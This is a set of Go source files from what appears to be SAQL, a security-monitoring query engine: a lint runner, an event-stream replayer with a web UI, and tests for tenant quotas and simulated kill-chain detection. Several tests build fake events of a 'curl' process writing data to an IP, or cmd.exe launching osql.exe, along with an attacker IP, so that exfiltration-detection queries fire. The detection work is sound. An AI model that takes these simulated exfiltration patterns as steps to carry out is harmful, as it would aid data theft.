			_, _ = io.Copy(h, f)
			f.Close()
		}
	}
	fmt.Printf("%s version devel comments-go-here buildID=%02x\n", name, h.Sum(nil))
}

// ---------------------------------------------------------------------------
// Standalone mode
// ---------------------------------------------------------------------------

func runStandalone(patterns []string, jsonMode bool) int {
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	cwd, err := os.Getwd()
	if err != nil {
		fmt.Fprintln(os.Stderr, "saql-lint:", err)
		return 3
	}
	pkgs, err := load.Packages(cwd, patterns...)
	if err != nil {
		fmt.Fprintln(os.Stderr, "saql-lint:", err)
		return 3
	}
	found := 0
	var all []located
	for _, pkg := range pkgs {
		for _, e := range pkg.TypeErrors {
			fmt.Fprintf(os.Stderr, "saql-lint: %s: type error: %v\n", pkg.ImportPath, e)
		}
		diags := collectDiagnostics(pkg.Fset, pkg.Files, pkg.Types, pkg.Info, os.Stderr)
		found += len(diags)
		if jsonMode {
			all = append(all, diags...)
		} else {
			printDiagnostics(os.Stderr, diags)
		}
	}
	if jsonMode {
		type jsonDiag struct {
			File     string `json:"file"`
			Line     int    `json:"line"`
			Col      int    `json:"col"`
			Analyzer string `json:"analyzer"`
			Message  string `json:"message"`
		}
		out := make([]jsonDiag, 0, len(all))
		for _, d := range all {
			out = append(out, jsonDiag{d.pos.Filename, d.pos.Line, d.pos.Column, d.name, d.msg})
		}
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "\t")
		if err := enc.Encode(out); err != nil {
			fmt.Fprintln(os.Stderr, "saql-lint:", err)
			return 3
		}
	}
	if found > 0 {
		if !jsonMode {
			fmt.Fprintf(os.Stderr, "saql-lint: %d finding(s)\n", found)
		}
		return 1
	}
	return 0
}

// located is one diagnostic resolved to a file position.
type located struct {
	pos  token.Position
	name string
	msg  string
}

func runAnalyzers(fset *token.FileSet, files []*ast.File, pkg *types.Package, info *types.Info, w io.Writer) int {
	diags := collectDiagnostics(fset, files, pkg, info, w)
	printDiagnostics(w, diags)
	return len(diags)
}

func collectDiagnostics(fset *token.FileSet, files []*ast.File, pkg *types.Package, info *types.Info, w io.Writer) []located {
	var all []located
	for _, a := range analyzers {
		var diags []analysis.Diagnostic
		pass := &analysis.Pass{
			Analyzer:  a,
			Fset:      fset,
			Files:     files,
			Pkg:       pkg,
			TypesInfo: info,
			Report:    func(d analysis.Diagnostic) { diags = append(diags, d) },
		}
		if err := a.Run(pass); err != nil {
			fmt.Fprintf(w, "saql-lint: %s: %v\n", a.Name, err)
			continue
		}
		for _, d := range diags {
			all = append(all, located{fset.Position(d.Pos), a.Name, d.Message})
		}
	}
	sort.Slice(all, func(i, j int) bool {
		a, b := all[i].pos, all[j].pos
		if a.Filename != b.Filename {
			return a.Filename < b.Filename
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		return a.Column < b.Column
	})
	return all
}

func printDiagnostics(w io.Writer, diags []located) {
	for _, d := range diags {
		fmt.Fprintf(w, "%s: %s: %s\n", d.pos, d.name, d.msg)
	}
}

// ---------------------------------------------------------------------------
// Unitchecker mode (go vet -vettool)
// ---------------------------------------------------------------------------

// unitConfig is the JSON unit description cmd/go hands to a vet tool. Field
// names and semantics follow x/tools/go/analysis/unitchecker.
type unitConfig struct {
	ID                        string
	Compiler                  string
	Dir                       string
	ImportPath                string
	GoVersion                 string
	GoFiles                   []string
	NonGoFiles                []string
	IgnoredFiles              []string
	ImportMap                 map[string]string
	PackageFile               map[string]string
	Standard                  map[string]bool
	PackageVetx               map[string]string
	VetxOnly                  bool
	VetxOutput                string
	SucceedOnTypecheckFailure bool
}

func runUnit(cfgPath string, jsonMode bool) int {
	data, err := os.ReadFile(cfgPath)
	if err != nil {
		fmt.Fprintln(os.Stderr, "saql-lint:", err)
		return 3
	}
	cfg := &unitConfig{}
	if err := json.Unmarshal(data, cfg); err != nil {
		fmt.Fprintf(os.Stderr, "saql-lint: parsing %s: %v\n", cfgPath, err)
		return 3
	}

	// The driver always expects the facts output file, even though this
	// suite exports no facts.
	if cfg.VetxOutput != "" {
		if err := os.WriteFile(cfg.VetxOutput, []byte("saql-lint: no facts\n"), 0o666); err != nil {
			fmt.Fprintln(os.Stderr, "saql-lint:", err)
			return 3
		}
	}
	if cfg.VetxOnly {
		return 0 // dependency pass: facts only, and we have none
	}

	fset := token.NewFileSet()
	var files []*ast.File
	for _, name := range cfg.GoFiles {
		if !filepath.IsAbs(name) {
			name = filepath.Join(cfg.Dir, name)
		}
		f, err := parser.ParseFile(fset, name, nil, parser.ParseComments)
		if err != nil {
			if cfg.SucceedOnTypecheckFailure {
				return 0
			}
			fmt.Fprintln(os.Stderr, "saql-lint:", err)
			return 3
		}
		files = append(files, f)
	}

	lookup := func(path string) (io.ReadCloser, error) {
		if mapped, ok := cfg.ImportMap[path]; ok {
			path = mapped
		}
		file, ok := cfg.PackageFile[path]
		if !ok {
			return nil, fmt.Errorf("saql-lint: no export data for %q", path)
		}
		return os.Open(file)
	}
	compiler := cfg.Compiler
	if compiler == "" {
		compiler = "gc"
	}
	imp := importer.ForCompiler(fset, compiler, lookup)

	info := &types.Info{
		Types:      map[ast.Expr]types.TypeAndValue{},
		Defs:       map[*ast.Ident]types.Object{},
		Uses:       map[*ast.Ident]types.Object{},
		Selections: map[*ast.SelectorExpr]*types.Selection{},
		Scopes:     map[ast.Node]*types.Scope{},
		Implicits:  map[ast.Node]types.Object{},
	}
	var typeErr error
	tconf := types.Config{
		Importer: imp,
		Error: func(err error) {
			if typeErr == nil {
				typeErr = err
			}
		},
	}
	pkg, _ := tconf.Check(cfg.ImportPath, fset, files, info)
	if typeErr != nil {
		if cfg.SucceedOnTypecheckFailure {
			return 0
		}
		fmt.Fprintf(os.Stderr, "saql-lint: %s: %v\n", cfg.ImportPath, typeErr)
		return 1
	}

	found := runAnalyzers(fset, files, pkg, info, os.Stderr)
	if found > 0 {
		return 2
	}
	return 0
}
