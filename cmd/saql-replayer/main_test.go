package main

import (
	"context"
	"testing"
	"time"

	"saql"
)

func testStore(t *testing.T) *saql.Store {
	t.Helper()
	store, err := saql.OpenStore(t.TempDir(), saql.StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	start := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	var events []*saql.Event
	for i := 0; i < 100; i++ {
		agent := "db-1"
		if i%2 == 0 {
			agent = "ws-1"
		}
		events = append(events, &saql.Event{
			Time:    start.Add(time.Duration(i) * time.Second),
			AgentID: agent,
			Subject: saql.Process("cmd.exe", 10),
			Op:      saql.OpStart,
			Object:  saql.Process("osql.exe", int32(100+i)),
		})
	}
	if err := store.AppendAll(events); err != nil {
		t.Fatal(err)
	}
	return store
}

func TestDoReplaySummary(t *testing.T) {
	rep := saql.NewReplayer(testStore(t))
	resp := doReplay(context.Background(), rep, replayRequest{
		Hosts: []string{"db-1"},
		Speed: 0,
	})
	if resp.Error != "" {
		t.Fatalf("error: %s", resp.Error)
	}
	if resp.Events != 50 {
		t.Errorf("events = %d, want 50", resp.Events)
	}
	if resp.SpanSec < 90 {
		t.Errorf("span = %v", resp.SpanSec)
	}
}

func TestDoReplayWithQuery(t *testing.T) {
	rep := saql.NewReplayer(testStore(t))
	resp := doReplay(context.Background(), rep, replayRequest{
		Speed: 0,
		Query: `proc p["%cmd.exe"] start proc q["%osql.exe"] as e return distinct p, q`,
	})
	if resp.Error != "" {
		t.Fatalf("error: %s", resp.Error)
	}
	if len(resp.Alerts) != 1 {
		t.Errorf("alerts = %d, want 1 (distinct)", len(resp.Alerts))
	}
}

func TestDoReplayErrors(t *testing.T) {
	rep := saql.NewReplayer(testStore(t))
	if resp := doReplay(context.Background(), rep, replayRequest{From: "not-a-time"}); resp.Error == "" {
		t.Error("bad from accepted")
	}
	if resp := doReplay(context.Background(), rep, replayRequest{To: "also-bad"}); resp.Error == "" {
		t.Error("bad to accepted")
	}
	if resp := doReplay(context.Background(), rep, replayRequest{Query: "not a query"}); resp.Error == "" {
		t.Error("bad query accepted")
	}
	if resp := doReplay(context.Background(), rep, replayRequest{Speed: -2}); resp.Error == "" {
		t.Error("negative speed accepted")
	}
}

func TestDoReplayTimeRange(t *testing.T) {
	rep := saql.NewReplayer(testStore(t))
	resp := doReplay(context.Background(), rep, replayRequest{
		From: "2020-02-27T09:00:10Z",
		To:   "2020-02-27T09:00:20Z",
	})
	if resp.Error != "" {
		t.Fatal(resp.Error)
	}
	if resp.Events != 10 {
		t.Errorf("events = %d, want 10", resp.Events)
	}
}
