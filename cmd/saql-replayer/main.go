// Command saql-replayer is the stream replayer of the paper (Figure 4): it
// replays stored system monitoring data as a live event stream, selecting
// hosts and a start/end time, at a configurable speed.
//
// It has two modes:
//
//   - CLI: replay a selection and print events (or just a summary).
//   - Web UI (-http): serve the Figure-4-style page where hosts and the
//     start/end time are chosen interactively; replays can optionally be run
//     through SAQL queries and the alerts shown.
//
// Usage:
//
//	saql-replayer -store ./data -hosts db-1 -speed 100 -print
//	saql-replayer -store ./data -http :8844
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"os"
	"sort"
	"strings"
	"time"

	"saql"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "saql-replayer:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		storeDir = flag.String("store", "", "event store directory (required)")
		hostsCSV = flag.String("hosts", "", "comma-separated agent ids (empty = all)")
		from     = flag.String("from", "", "start time (RFC3339)")
		to       = flag.String("to", "", "end time (RFC3339)")
		speed    = flag.Float64("speed", 0, "speed multiplier (0 = max)")
		print    = flag.Bool("print", false, "print every replayed event")
		httpAddr = flag.String("http", "", "serve the web UI on this address instead of replaying once")
	)
	flag.Parse()
	if *storeDir == "" {
		return fmt.Errorf("-store is required")
	}
	store, err := saql.OpenStore(*storeDir, saql.StoreOptions{})
	if err != nil {
		return err
	}
	rep := saql.NewReplayer(store)

	if *httpAddr != "" {
		return serveUI(*httpAddr, rep)
	}

	opts := saql.ReplayOptions{Speed: *speed}
	if *hostsCSV != "" {
		opts.Hosts = strings.Split(*hostsCSV, ",")
	}
	if *from != "" {
		t, err := time.Parse(time.RFC3339, *from)
		if err != nil {
			return fmt.Errorf("bad -from: %w", err)
		}
		opts.From = t
	}
	if *to != "" {
		t, err := time.Parse(time.RFC3339, *to)
		if err != nil {
			return fmt.Errorf("bad -to: %w", err)
		}
		opts.To = t
	}
	stats, err := rep.Replay(context.Background(), opts, func(ev *saql.Event) error {
		if *print {
			fmt.Println(ev)
		}
		return nil
	})
	if err != nil {
		return err
	}
	fmt.Printf("replayed %d events spanning %s in %s (%.0fx)\n",
		stats.Events, stats.EventSpan().Round(time.Millisecond), stats.Wall.Round(time.Millisecond), stats.Speedup())
	return nil
}

// ---------------------------------------------------------------------------
// Web UI
// ---------------------------------------------------------------------------

type replayRequest struct {
	Hosts []string `json:"hosts"`
	From  string   `json:"from"`
	To    string   `json:"to"`
	Speed float64  `json:"speed"`
	Query string   `json:"query"` // optional SAQL query to run over the replay
}

type replayResponse struct {
	Events  int64    `json:"events"`
	SpanSec float64  `json:"span_seconds"`
	WallSec float64  `json:"wall_seconds"`
	Speedup float64  `json:"speedup"`
	Alerts  []string `json:"alerts,omitempty"`
	Error   string   `json:"error,omitempty"`
}

func serveUI(addr string, rep *saql.Replayer) error {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, uiPage)
	})
	mux.HandleFunc("/replay", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST only", http.StatusMethodNotAllowed)
			return
		}
		var req replayRequest
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			writeJSON(w, replayResponse{Error: err.Error()})
			return
		}
		resp := doReplay(r.Context(), rep, req)
		writeJSON(w, resp)
	})
	fmt.Printf("stream replayer UI on http://%s/\n", addr)
	return http.ListenAndServe(addr, mux)
}

func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(v)
}

func doReplay(ctx context.Context, rep *saql.Replayer, req replayRequest) replayResponse {
	opts := saql.ReplayOptions{Hosts: req.Hosts, Speed: req.Speed}
	if req.From != "" {
		t, err := time.Parse(time.RFC3339, req.From)
		if err != nil {
			return replayResponse{Error: "bad from: " + err.Error()}
		}
		opts.From = t
	}
	if req.To != "" {
		t, err := time.Parse(time.RFC3339, req.To)
		if err != nil {
			return replayResponse{Error: "bad to: " + err.Error()}
		}
		opts.To = t
	}

	// Run the optional query through the concurrent ingestion API: the
	// replay goroutine submits, a subscription collects the alert stream.
	var alerts []string
	var eng *saql.Engine
	var sub *saql.AlertSubscription
	collected := make(chan struct{})
	if strings.TrimSpace(req.Query) != "" {
		eng = saql.New()
		if _, err := eng.Register("ui-query", req.Query); err != nil {
			return replayResponse{Error: err.Error()}
		}
		if err := eng.Start(ctx); err != nil {
			return replayResponse{Error: err.Error()}
		}
		defer eng.Close()
		sub = eng.Subscribe(256, saql.Block)
		go func() {
			defer close(collected)
			for a := range sub.C {
				if len(alerts) < 200 {
					alerts = append(alerts, a.String())
				}
			}
		}()
	}

	stats, err := rep.Replay(ctx, opts, func(ev *saql.Event) error {
		if eng != nil {
			return eng.Submit(ev)
		}
		return nil
	})
	if err != nil {
		return replayResponse{Error: err.Error()}
	}
	if eng != nil {
		// Close drains, flushes, and ends the subscription; wait for the
		// collector to finish before reading alerts.
		if err := eng.Close(); err != nil {
			return replayResponse{Error: err.Error()}
		}
		<-collected
	}
	sort.Strings(alerts)
	return replayResponse{
		Events:  stats.Events,
		SpanSec: stats.EventSpan().Seconds(),
		WallSec: stats.Wall.Seconds(),
		Speedup: stats.Speedup(),
		Alerts:  alerts,
	}
}

const uiPage = `<!DOCTYPE html>
<html><head><title>SAQL Stream Replayer</title>
<style>
body{font-family:sans-serif;max-width:760px;margin:2em auto;color:#222}
label{display:block;margin-top:.8em;font-weight:bold}
input,textarea{width:100%;padding:.4em;box-sizing:border-box}
textarea{height:9em;font-family:monospace}
button{margin-top:1em;padding:.6em 2em;font-size:1em}
pre{background:#f4f4f4;padding:1em;overflow:auto}
</style></head>
<body>
<h1>SAQL Stream Replayer</h1>
<p>Select hosts and a time range to replay stored system monitoring data as
an event stream; optionally run a SAQL query over the replay.</p>
<label>Hosts (comma-separated, empty = all)</label>
<input id="hosts" placeholder="db-1, ws-victim">
<label>From (RFC3339, empty = start of data)</label>
<input id="from" placeholder="2020-02-27T09:00:00Z">
<label>To (RFC3339, empty = end of data)</label>
<input id="to" placeholder="2020-02-27T09:30:00Z">
<label>Speed (0 = max)</label>
<input id="speed" value="0">
<label>SAQL query (optional)</label>
<textarea id="query" placeholder="proc p write ip i as evt #time(30 s) ..."></textarea>
<button onclick="go()">Replay</button>
<pre id="out">ready</pre>
<script>
async function go(){
  const hosts=document.getElementById('hosts').value.split(',').map(s=>s.trim()).filter(Boolean);
  const body={hosts:hosts,from:document.getElementById('from').value.trim(),
    to:document.getElementById('to').value.trim(),
    speed:parseFloat(document.getElementById('speed').value)||0,
    query:document.getElementById('query').value};
  document.getElementById('out').textContent='replaying...';
  const r=await fetch('/replay',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(body)});
  document.getElementById('out').textContent=JSON.stringify(await r.json(),null,2);
}
</script>
</body></html>
`
