package saql

// Tests for the multi-tenant control plane: alert budgets (typed
// degradation, window reset, hot raises), ingest-rate quotas, registration
// ceilings, cross-tenant sharing accounting, checkpointed tenant metadata,
// and the conformance guarantee that a noisy tenant's degradation never
// perturbs another tenant's alerts.

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"
)

// perWriteAlertSrc raises one alert per qualifying write event.
const perWriteAlertSrc = `proc p write ip i as e
alert e.amount > 100
return p, e.amount`

// collectAlerts returns an engine option that appends every delivered alert
// (post budget gate) to the returned slice.
func collectAlerts() (*[]*Alert, Option) {
	var mu sync.Mutex
	alerts := &[]*Alert{}
	return alerts, WithAlertHandler(func(a *Alert) {
		mu.Lock()
		*alerts = append(*alerts, a)
		mu.Unlock()
	})
}

func TestTenantOf(t *testing.T) {
	cases := map[string]string{
		"acme/exfil":   "acme",
		"acme/a/b":     "acme",
		"solo":         "default",
		"/leading":     "default",
		"":             "default",
		"t/":           "t",
		"exfil-volume": "default",
	}
	for name, want := range cases {
		if got := TenantOf(name); got != want {
			t.Errorf("TenantOf(%q) = %q, want %q", name, got, want)
		}
	}
}

// TestAlertBudgetSuppression exhausts a tenant's alert budget mid-window:
// over-budget alerts are suppressed and counted, evaluation continues, and
// the next stream-time window grants a fresh budget.
func TestAlertBudgetSuppression(t *testing.T) {
	got, opt := collectAlerts()
	eng := New(opt)
	defer eng.Close()
	if _, err := eng.Register("acme/writes", perWriteAlertSrc); err != nil {
		t.Fatal(err)
	}
	eng.SetTenantQuotas("acme", TenantQuotas{AlertBudget: 2, AlertWindow: time.Minute})

	// Five qualifying events inside one window: budget admits two.
	for i := 0; i < 5; i++ {
		eng.Process(writeEvent(time.Duration(i)*5*time.Second, "curl", 500))
	}
	if len(*got) != 2 {
		t.Fatalf("delivered = %d, want 2 (budget)", len(*got))
	}
	ts, ok := eng.TenantStats("acme")
	if !ok {
		t.Fatal("tenant acme missing")
	}
	if ts.Alerts != 2 || ts.Suppressed != 3 {
		t.Errorf("alerts = %d suppressed = %d, want 2/3", ts.Alerts, ts.Suppressed)
	}
	degraded := strings.Join(ts.Degraded, ",")
	if !strings.Contains(degraded, "alert_budget") {
		t.Errorf("degraded = %q, want alert_budget", degraded)
	}

	// The per-query recent-alert ring counts only delivered alerts.
	if n := eng.RecentAlerts("acme/writes", time.Hour); n != 2 {
		t.Errorf("RecentAlerts = %d, want 2", n)
	}

	// Next stream-time window: fresh budget.
	eng.Process(writeEvent(2*time.Minute, "curl", 500))
	if len(*got) != 3 {
		t.Errorf("delivered after window roll = %d, want 3", len(*got))
	}
	ts, _ = eng.TenantStats("acme")
	if ts.Suppressed != 3 {
		t.Errorf("suppressed after roll = %d, want 3 (unchanged)", ts.Suppressed)
	}
}

// TestAlertBudgetRaisedHotApply exhausts a budget declared in a queryset
// document, then re-Applies the document with a higher budget: the raise
// takes effect immediately, inside the same accounting window.
func TestAlertBudgetRaisedHotApply(t *testing.T) {
	got, opt := collectAlerts()
	eng := New(opt)
	defer eng.Close()

	doc := func(budget string) string {
		return `tenant acme {
  quota alert_budget = ` + budget + ` / 1 min
  query writes {
    proc p write ip i as e
    alert e.amount > 100
    return p, e.amount
  }
}`
	}
	set, err := ParseQuerySet(doc("1"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := eng.Apply(context.Background(), set); err != nil {
		t.Fatal(err)
	}
	if q := eng.TenantQuotas("acme"); q.AlertBudget != 1 || q.AlertWindow != time.Minute {
		t.Fatalf("declared quotas not installed: %+v", q)
	}

	eng.Process(writeEvent(0, "curl", 500))
	eng.Process(writeEvent(5*time.Second, "curl", 500))
	if len(*got) != 1 {
		t.Fatalf("delivered = %d, want 1 (budget 1)", len(*got))
	}

	// Hot raise via Apply; the window's counter is 1, the new budget 5.
	set, err = ParseQuerySet(doc("5"))
	if err != nil {
		t.Fatal(err)
	}
	rep, err := eng.Apply(context.Background(), set)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Unchanged) != 1 {
		t.Errorf("re-apply report = %s", rep)
	}
	eng.Process(writeEvent(10*time.Second, "curl", 500))
	eng.Process(writeEvent(15*time.Second, "curl", 500))
	if len(*got) != 3 {
		t.Errorf("delivered after raise = %d, want 3", len(*got))
	}
}

// TestTenantMaxQueriesQuota rejects Register and Apply beyond the ceiling
// with a typed *QuotaError.
func TestTenantMaxQueriesQuota(t *testing.T) {
	eng := New()
	defer eng.Close()
	eng.SetTenantQuotas("small", TenantQuotas{MaxQueries: 1})
	if _, err := eng.Register("small/a", perWriteAlertSrc); err != nil {
		t.Fatal(err)
	}
	_, err := eng.Register("small/b", perWriteAlertSrc)
	var qe *QuotaError
	if !errors.As(err, &qe) {
		t.Fatalf("second Register error = %v, want *QuotaError", err)
	}
	if qe.Tenant != "small" || qe.Quota != "max_queries" || qe.Limit != 1 || qe.Need != 2 {
		t.Errorf("QuotaError = %+v", qe)
	}
	// Other tenants are unaffected.
	if _, err := eng.Register("other/a", perWriteAlertSrc); err != nil {
		t.Fatal(err)
	}

	// Apply validates the reconciled shape: a document declaring more
	// queries than its own quota allows is rejected before any mutation.
	set, err := ParseQuerySet(`tenant packed {
  quota max_queries = 1
  query a { proc p write ip i as e alert e.amount > 100 return p }
  query b { proc p write ip i as e alert e.amount > 200 return p }
}`)
	if err != nil {
		t.Fatal(err)
	}
	_, err = eng.Apply(context.Background(), set)
	if !errors.As(err, &qe) {
		t.Fatalf("Apply error = %v, want *QuotaError", err)
	}
	if _, ok := eng.Query("packed/a"); ok {
		t.Error("rejected Apply left a query registered")
	}
}

// TestCrossTenantSharingRatio registers identical queries under two tenants:
// they share one evaluation stream, so each tenant's SharingRatio reports
// the 2x benefit; pausing one collapses the other to 1x.
func TestCrossTenantSharingRatio(t *testing.T) {
	eng := New()
	defer eng.Close()
	for _, name := range []string{"a/sum", "b/sum"} {
		if _, err := eng.Register(name, groupedSumSrc); err != nil {
			t.Fatal(err)
		}
	}
	byName := func() map[string]TenantStats {
		m := map[string]TenantStats{}
		for _, ts := range eng.Tenants() {
			m[ts.Name] = ts
		}
		return m
	}
	m := byName()
	if m["a"].SharingRatio != 2 || m["b"].SharingRatio != 2 {
		t.Errorf("sharing ratios = %v / %v, want 2/2 (one shared stream)", m["a"].SharingRatio, m["b"].SharingRatio)
	}
	if m["a"].Queries != 1 || m["b"].Queries != 1 {
		t.Errorf("query counts = %d / %d", m["a"].Queries, m["b"].Queries)
	}

	h, _ := eng.Query("a/sum")
	if err := h.Pause(); err != nil {
		t.Fatal(err)
	}
	m = byName()
	if m["b"].SharingRatio != 1 {
		t.Errorf("b ratio after pausing a = %v, want 1 (no co-tenant left)", m["b"].SharingRatio)
	}
	if m["a"].SharingRatio != 0 {
		t.Errorf("a ratio with no active queries = %v, want 0", m["a"].SharingRatio)
	}
	if m["a"].Paused != 1 {
		t.Errorf("a paused = %d, want 1", m["a"].Paused)
	}
}

// TestNoisyTenantConformance proves typed degradation is isolation: the
// quiet tenant's alerts are byte-identical between a run alongside a noisy
// over-budget tenant and a run without that tenant at all — even though the
// two tenants' identical queries share one evaluation stream.
func TestNoisyTenantConformance(t *testing.T) {
	events := make([]*Event, 0, 40)
	for i := 0; i < 40; i++ {
		events = append(events, writeEvent(time.Duration(i)*3*time.Second, "curl", 500))
	}
	quietAlerts := func(withNoisy bool) []string {
		got, opt := collectAlerts()
		eng := New(opt)
		defer eng.Close()
		if _, err := eng.Register("quiet/writes", perWriteAlertSrc); err != nil {
			t.Fatal(err)
		}
		if withNoisy {
			if _, err := eng.Register("noisy/writes", perWriteAlertSrc); err != nil {
				t.Fatal(err)
			}
			eng.SetTenantQuotas("noisy", TenantQuotas{AlertBudget: 1, AlertWindow: time.Minute})
		}
		for _, ev := range events {
			eng.Process(ev)
		}
		eng.Flush()
		var out []string
		for _, a := range *got {
			if TenantOf(a.Query) == "quiet" {
				out = append(out, a.String())
			}
		}
		if withNoisy {
			ts, _ := eng.TenantStats("noisy")
			if ts.Suppressed == 0 {
				t.Fatal("noisy tenant was never over budget — test proves nothing")
			}
			if ts.Alerts != 2 {
				t.Errorf("noisy delivered = %d, want 2 (one per window)", ts.Alerts)
			}
		}
		return out
	}

	want := quietAlerts(false)
	got := quietAlerts(true)
	if len(want) == 0 {
		t.Fatal("quiet tenant raised no alerts")
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("quiet tenant's alerts changed under a noisy co-tenant:\nwith noisy:\n%s\nwithout:\n%s",
			strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestIngestRateQuota throttles a tenant-attributed source on stream time:
// excess events are dropped before the engine sees them, and counted.
func TestIngestRateQuota(t *testing.T) {
	got, opt := collectAlerts()
	eng := New(opt)
	defer eng.Close()
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	if _, err := eng.Register("rl/writes", perWriteAlertSrc); err != nil {
		t.Fatal(err)
	}
	eng.SetTenantQuotas("rl", TenantQuotas{IngestRate: 2})

	// Ten qualifying events in the same stream-time second: rate 2/s keeps
	// two. (NDJSON timestamps vary only in sub-second digits.)
	var lines strings.Builder
	for i := 0; i < 10; i++ {
		lines.WriteString(`{"ts":"2020-02-27T09:00:00.` + string(rune('0'+i)) + `00Z","agent":"h","subject":{"type":"proc","exe":"curl","pid":7},"op":"write","object":{"type":"ip","dst_ip":"10.0.0.2","dst_port":2},"amount":500}` + "\n")
	}
	src, err := NewSource(strings.NewReader(lines.String()), WithFormat("ndjson"), WithSourceTenant("rl"))
	if err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err != nil {
		t.Fatal(err)
	}
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}

	ts, ok := eng.TenantStats("rl")
	if !ok {
		t.Fatal("tenant rl missing")
	}
	if ts.SourceEvents != 2 || ts.EventsThrottled != 8 {
		t.Errorf("accepted = %d throttled = %d, want 2/8", ts.SourceEvents, ts.EventsThrottled)
	}
	if len(*got) != 2 {
		t.Errorf("alerts = %d, want 2 (only admitted events evaluate)", len(*got))
	}
}

// TestSourceRunOnce: sources are one-shot so attach/detach pair exactly
// once.
func TestSourceRunOnce(t *testing.T) {
	eng := New()
	defer eng.Close()
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	src, err := NewSource(strings.NewReader(""), WithFormat("ndjson"))
	if err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err == nil || !strings.Contains(err.Error(), "one-shot") {
		t.Errorf("second Run error = %v, want one-shot rejection", err)
	}
}

// TestCheckpointRestoresTenantMetadata proves tenant quotas and mid-window
// budget accounting survive a checkpoint/restore: the restored engine keeps
// suppressing inside the same stream-time window instead of granting a
// fresh budget.
func TestCheckpointRestoresTenantMetadata(t *testing.T) {
	dir := t.TempDir()
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	e1 := New(WithJournal(store))
	if _, err := e1.Register("acme/writes", perWriteAlertSrc); err != nil {
		t.Fatal(err)
	}
	e1.SetTenantQuotas("acme", TenantQuotas{AlertBudget: 1, AlertWindow: time.Hour, IngestRate: 99})

	// Exhaust the budget: one delivered, one suppressed.
	e1.Process(writeEvent(0, "curl", 500))
	e1.Process(writeEvent(5*time.Second, "curl", 500))
	ts, _ := e1.TenantStats("acme")
	if ts.Alerts != 1 || ts.Suppressed != 1 {
		t.Fatalf("pre-checkpoint alerts/suppressed = %d/%d, want 1/1", ts.Alerts, ts.Suppressed)
	}
	if _, err := e1.Checkpoint(dir); err != nil {
		t.Fatal(err)
	}
	// Crash: no Close.

	got, opt := collectAlerts()
	e2, _, err := Restore(dir, WithoutStart(), WithRestoreEngineOptions(opt))
	if err != nil {
		t.Fatal(err)
	}
	defer e2.Close()
	q := e2.TenantQuotas("acme")
	if q.AlertBudget != 1 || q.AlertWindow != time.Hour || q.IngestRate != 99 {
		t.Errorf("restored quotas = %+v", q)
	}
	ts, _ = e2.TenantStats("acme")
	if ts.Alerts != 1 || ts.Suppressed != 1 {
		t.Errorf("restored alerts/suppressed = %d/%d, want 1/1", ts.Alerts, ts.Suppressed)
	}
	// Same stream-time window: the budget is still spent.
	e2.Process(writeEvent(10*time.Second, "curl", 500))
	if len(*got) != 0 {
		t.Errorf("restored engine delivered %d alerts inside the exhausted window, want 0", len(*got))
	}
	ts, _ = e2.TenantStats("acme")
	if ts.Suppressed != 2 {
		t.Errorf("restored suppressed = %d, want 2", ts.Suppressed)
	}
}
