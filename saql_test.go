package saql

import (
	"context"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
)

var demoStart = time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)

// buildDemoStream mixes deterministic background activity from five hosts
// with the APT kill chain, returning the time-ordered stream and scenario.
func buildDemoStream(t testing.TB, duration time.Duration, attackAt time.Duration) ([]*Event, *AttackScenario) {
	t.Helper()
	wl, err := NewWorkload(WorkloadConfig{
		Hosts: []Host{
			{AgentID: "ws-victim", Kind: Workstation},
			{AgentID: "ws-2", Kind: Workstation},
			{AgentID: "mail-1", Kind: MailServer},
			{AgentID: "web-1", Kind: WebServer},
			{AgentID: "db-1", Kind: DBServer},
		},
		Start:    demoStart,
		Duration: duration,
		Seed:     42,
	})
	if err != nil {
		t.Fatal(err)
	}
	background := wl.Drain()

	scenario := &AttackScenario{
		Workstation: "ws-victim",
		MailServer:  "mail-1",
		DBServer:    "db-1",
		AttackerIP:  "172.16.0.129",
		Start:       demoStart.Add(attackAt),
	}
	attackEvents := AttackEventsOnly(scenario.Events())

	all := append(background, attackEvents...)
	sort.SliceStable(all, func(i, j int) bool { return all[i].Time.Before(all[j].Time) })
	return all, scenario
}

// TestKillChainDetection is the paper's demonstration as a test: all 8 SAQL
// queries run concurrently over the mixed stream; every attack step must be
// detected by its rule query, and the three advanced anomaly queries must
// catch c2 (invariant) and c5 (time-series + outlier) with no knowledge of
// the attack.
func TestKillChainDetection(t *testing.T) {
	events, scenario := buildDemoStream(t, 30*time.Minute, 12*time.Minute)
	queries := scenario.DemoQueries(30*time.Second, 5)
	if len(queries) != 8 {
		t.Fatalf("demo queries = %d, want 8", len(queries))
	}

	eng := New()
	for _, nq := range queries {
		if err := eng.AddQuery(nq.Name, nq.SAQL); err != nil {
